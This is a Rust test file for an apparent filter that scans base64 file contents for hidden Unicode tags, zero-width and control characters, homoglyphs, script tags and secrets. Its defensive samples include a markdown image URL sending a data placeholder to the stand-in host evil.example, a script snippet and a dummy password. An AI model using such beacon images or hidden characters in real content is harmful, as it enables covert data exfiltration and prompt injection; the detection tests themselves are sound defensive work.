//! What a file hides or runs is found in its bytes as in its text, and bytes in which nothing is stay as they are.

use super::spliced;
use crate::content::tests::{content, looked, strict};
use crate::content::{Because, Content, Toward};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
use bytes::Bytes;
use config::settled::HiddenText;
use protocol::{Document, Limits};
use serde_json::{Value, json};

const PLACE: &str = "/result/contents/0/blob";
const IMAGE: &str = "![a](https://evil.example/{b})";

fn file(blob: &str, kind: Option<&str>) -> Value {
    let mut file = json!({ "uri": "file:///a", "blob": blob });
    if let Some(kind) = kind {
        file["mimeType"] = json!(kind);
    }
    json!({ "result": { "contents": [file] } })
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// The bytes that are left, and what was found.
fn left(content: &Content, bytes: &[u8], kind: Option<&str>) -> (Vec<u8>, Vec<String>) {
    let message = file(&STANDARD.encode(bytes), kind);
    let (after, found) = looked(content, &message, Toward::Model);
    let blob = after.pointer(PLACE).and_then(Value::as_str).unwrap();
    let found = found.iter().map(|it| {
        let rest = it.strip_prefix(PLACE).unwrap();
        rest.trim_start().to_owned()
    });
    (STANDARD.decode(blob).unwrap(), found.collect())
}

#[test]
fn n1_4_what_a_file_hides_is_found_in_its_bytes() {
    let content = content(HiddenText::Remove, &strict());
    let text = "a\u{200b}b\u{e0041} c";
    let both = [
        "hidden_text.tags 1.4 remove",
        "hidden_text.zero_width 1.4 remove",
    ];
    let control = ["hidden_text.control 1.4 remove"];
    let marked = format!("\u{feff}{text}");
    for (bytes, kind, after, found) in [
        (text.into(), None, "ab c".into(), &both[..]),
        (text.into(), Some("text/plain"), "ab c".into(), &both),
        // What it is said to be is not believed.
        (text.into(), Some("image/png"), "ab c".into(), &both),
        // What says how bytes are read stays with them.
        (marked.clone().into(), None, "\u{feff}ab c".into(), &both),
        (wide(&marked), None, wide("\u{feff}ab c"), &both),
        (
            "\u{feff}a".into(),
            Some("text/csv"),
            "\u{feff}a".into(),
            &[],
        ),
        (wide("\u{feff}a"), None, wide("\u{feff}a"), &[]),
        // Few bytes that have what no text has are one only if they are said to be.
        (
            b"a\x01b".to_vec(),
            Some("Text/Plain; charset=utf-8"),
            b"ab".to_vec(),
            &control,
        ),
        (
            b"a\x01b".to_vec(),
            Some("application/x-yaml"),
            b"ab".to_vec(),
            &control,
        ),
        (b"a\x01b".to_vec(), None, b"a\x01b".to_vec(), &[]),
        (
            b"a\x01b".to_vec(),
            Some("application/octet-stream"),
            b"a\x01b".to_vec(),
            &[],
        ),
        // Words of another code are not those that their bytes would be here.
        (
            b"\x93so\x94".to_vec(),
            Some("text/plain"),
            b"\x93so\x94".to_vec(),
            &[],
        ),
        (
            "p\u{430}ypal".into(),
            None,
            "p\u{430}ypal".into(),
            &["text.mixed_script 1.4 report"],
        ),
    ] {
        let expected = found.iter().map(|it| (*it).to_owned()).collect();
        let row = format!("{bytes:?} {kind:?}");
        assert_eq!(left(&content, &bytes, kind), (after, expected), "{row}");
    }
}

#[test]
fn n1_4_what_is_hidden_in_bytes_is_dealt_with_as_the_operator_says() {
    let blob = STANDARD.encode("a\u{e0041}");
    let picture = json!({ "type": "image", "mimeType": "image/svg+xml", "data": blob });
    let ignored = json!({ "data": { "secrets": { "answers": "ignore", "arguments": "ignore" },
                                    "personal": { "answers": "ignore", "arguments": "ignore" } } });
    for (place, message) in [
        (PLACE, file(&blob, None)),
        (
            "/result/content/0/data",
            json!({ "result": { "content": [picture] } }),
        ),
        (
            "/result/content/0/resource/blob",
            json!({ "result": { "content": [{ "type": "resource", "resource": { "uri": "a:b", "blob": blob } }] } }),
        ),
    ] {
        for (hidden, action) in [
            (HiddenText::Remove, "remove"),
            (HiddenText::Report, "report"),
            (HiddenText::Refuse, "refuse"),
        ] {
            for (settings, toward, control) in [
                (json!({}), Toward::Model, "1.4"),
                (json!({}), Toward::Server, "1.1"),
                // Where nothing else is looked for, too.
                (ignored.clone(), Toward::Model, "1.4"),
            ] {
                let content = content(hidden, &settings);
                let (after, found) = looked(&content, &message, toward);
                let is_gone = after.pointer(place) == Some(&json!(STANDARD.encode("a")));
                assert_eq!(is_gone, hidden == HiddenText::Remove, "{after}");
                assert_eq!(
                    found,
                    [format!("{place} hidden_text.tags {control} {action}")]
                );
                let document = Document::read(Bytes::from(message.to_string()), &Limits::default());
                let refused = content.look(&document.unwrap(), toward).refused;
                let because = Because::HiddenText {
                    place: place.into(),
                    rule: "hidden_text.tags".into(),
                };
                let because = (hidden == HiddenText::Refuse).then_some(because);
                assert_eq!(refused, because);
            }
        }
    }
}

#[test]
fn n9_3_what_runs_or_carries_out_is_told_of_a_file_and_made_harmless_in_prose() {
    let content = content(HiddenText::Remove, &strict());
    let active = format!("<script>x()</script> {IMAGE}");
    let harmless = "&lt;script>x()</script> a [image removed: evil.example]";
    let told = |action: &str| {
        vec![
            format!("markup.image_placeholder 9.3 {action}"),
            format!("markup.script 1.4 {action}"),
        ]
    };
    for (kind, after, found) in [
        (Some("text/markdown"), harmless, told("neutralise")),
        (Some("text/plain"), harmless, told("neutralise")),
        (Some("text/html"), &*active, told("report")),
        (Some("image/svg+xml"), &active, told("report")),
        (Some("application/pdf"), &active, told("report")),
        (None, &active, told("report")),
    ] {
        let expected = (after.as_bytes().to_vec(), found);
        assert_eq!(
            left(&content, active.as_bytes(), kind),
            expected,
            "{kind:?}"
        );
    }
    // Nothing of bytes is cut.
    let empty = format!("a{}b", "\n".repeat(200));
    let (after, found) = left(&content, empty.as_bytes(), Some("text/plain"));
    assert_eq!(after, empty.as_bytes());
    assert_eq!(found, ["flood.emptiness 9.4 report"]);
    // A file that is JSON is looked through by the names of its members.
    let secret = br#"{"password": "hunter2-blue"}"#;
    let (after, _) = left(&content, secret, Some("application/json"));
    assert_eq!(after, br#"{"password": "[redacted: secret.password]"}"#);
}

#[test]
fn n1_4_bytes_in_which_nothing_is_found_stay_as_they_are_written() {
    let marks = json!({ "spotlight": "encode" });
    let contents = [json!({}), strict(), marks].map(|it| content(HiddenText::Remove, &it));
    let noise: Vec<u8> = (0..=255u8).cycle().step_by(7).take(2000).collect();
    let text = "# Caf\u{e9}\r\n\nTwo *lines*, and 1 < 2.\n".repeat(20);
    for (bytes, kind) in [
        (text.as_bytes(), "text/markdown"),
        (text.as_bytes(), "application/octet-stream"),
        (&*wide(&text), "text/plain"),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "image/png"),
        (&noise, "application/zip"),
        (b"", "text/plain"),
    ] {
        let lines = STANDARD.encode(bytes);
        let lines: Vec<_> = lines.as_bytes().chunks(76).collect();
        let lines = lines.join(&b"\r\n"[..]);
        let lines = String::from_utf8(lines).unwrap();
        for blob in [STANDARD.encode(bytes), STANDARD_NO_PAD.encode(bytes), lines] {
            for content in &contents {
                for kind in [Some(kind), None] {
                    let message = file(&blob, kind);
                    let (after, found) = looked(content, &message, Toward::Model);
                    assert_eq!((after, found), (message, vec![]), "{kind:?}");
                }
            }
        }
    }
}

#[test]
fn n9_3_each_part_of_a_picture_goes_where_it_was_and_one_that_went_over_a_gap_is_all_there_is() {
    let bytes = b"\0one\0two\0";
    let runs = [1..4, 5..8];
    for (text, expected) in [
        ("one\u{fffd}two", &b"\0one\0two\0"[..]),
        ("mark\u{fffd}two", b"\0mark\0two\0"),
        ("mark", b"mark"),
    ] {
        assert_eq!(&*spliced(bytes, &runs, text), expected, "{text}");
    }
}
